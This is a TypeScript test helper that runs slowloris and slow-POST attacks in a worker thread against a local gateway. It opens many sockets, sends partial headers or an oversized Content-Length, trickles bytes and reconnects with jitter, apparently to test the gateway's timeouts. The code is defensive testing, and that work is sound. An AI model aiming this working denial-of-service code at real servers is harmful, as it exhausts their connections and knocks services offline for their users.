/**
 * A slowloris and slow-POST attacker for tests, run in a worker thread so that its thousand sockets do not share
 * the event loop that is being measured. Slowloris sockets send a partial header line and trickle a byte every
 * 500 ms; slow-POST sockets announce Content-Length 100000 and trickle 10 bytes per second. Each slot reconnects
 * shortly after the gateway closes it, until told to stop; then the worker reports every socket's lifetime.
 */
import net from 'node:net';
import { parentPort, Worker, workerData } from 'node:worker_threads';

export interface AttackPlan {
  readonly port: number;
  readonly from: string;
  readonly slowloris: number;
  readonly slowPost: number;
}

export interface AttackSocketReport {
  readonly kind: 'slowloris' | 'slow_post';
  /** Milliseconds from connect to the gateway closing it; undefined when still open at the end. */
  readonly lifetimeMs?: number;
  /** The first bytes the gateway wrote back. */
  readonly reply: string;
}

interface Slot {
  readonly kind: AttackSocketReport['kind'];
  readonly socket: net.Socket;
  opened: number;
  closed?: number;
  reply: string;
}

/** Starts the attack in a worker; `stop()` ends reconnecting, waits `graceMs` for open sockets, and reports. */
export function startAttack(plan: AttackPlan): { stop(graceMs: number): Promise<AttackSocketReport[]> } {
  const worker = new Worker(new URL(import.meta.url), { workerData: plan });
  const report = new Promise<AttackSocketReport[]>((resolve, reject) => {
    worker.once('message', (m: AttackSocketReport[]) => resolve(m));
    worker.once('error', reject);
  });
  return {
    async stop(graceMs) {
      worker.postMessage({ stop: graceMs });
      const r = await report;
      await worker.terminate();
      return r;
    },
  };
}

function attack(plan: AttackPlan): void {
  const slots: Slot[] = [];
  let attacking = true;
  const open = (kind: Slot['kind']) => {
    const socket = net.connect({ port: plan.port, host: '127.0.0.1', localAddress: plan.from });
    const s: Slot = { kind, socket, opened: performance.now(), reply: '' };
    slots.push(s);
    socket.on('error', () => undefined);
    socket.on('data', (c: Buffer) => {
      if (s.reply.length < 200) s.reply += c.toString('latin1');
    });
    socket.once('connect', () => {
      s.opened = performance.now();
      socket.write(
        kind === 'slowloris'
          ? 'GET / HTTP/1.1\r\nHost: gw\r\nX-Slow: '
          : 'POST /upload HTTP/1.1\r\nHost: gw\r\nContent-Type: text/plain\r\nContent-Length: 100000\r\n\r\n',
      );
    });
    socket.once('close', () => {
      s.closed = performance.now();
      // A little jitter, as real attackers have: all slots reconnecting in the same tick is a SYN burst test.
      if (attacking) setTimeout(() => attacking && open(kind), Math.random() * 200);
    });
  };
  for (let i = 0; i < plan.slowloris; i++) open('slowloris');
  for (let i = 0; i < plan.slowPost; i++) open('slow_post');
  const trickle = setInterval(() => {
    for (const s of slots) {
      if (s.closed === undefined && s.socket.writable && !s.socket.connecting) {
        s.socket.write(s.kind === 'slowloris' ? 'a' : 'xxxxx');
      }
    }
  }, 500);

  parentPort!.once('message', (m: { stop: number }) => {
    attacking = false;
    const until = performance.now() + m.stop;
    const wait = setInterval(() => {
      if (slots.some((s) => s.closed === undefined) && performance.now() < until) return;
      clearInterval(wait);
      clearInterval(trickle);
      const out: AttackSocketReport[] = slots.map((s) => ({
        kind: s.kind,
        lifetimeMs: s.closed === undefined ? undefined : s.closed - s.opened,
        reply: s.reply,
      }));
      for (const s of slots) s.socket.destroy();
      parentPort!.postMessage(out);
    }, 100);
  });
}

if (parentPort && (workerData as AttackPlan | undefined)?.port) attack(workerData as AttackPlan);
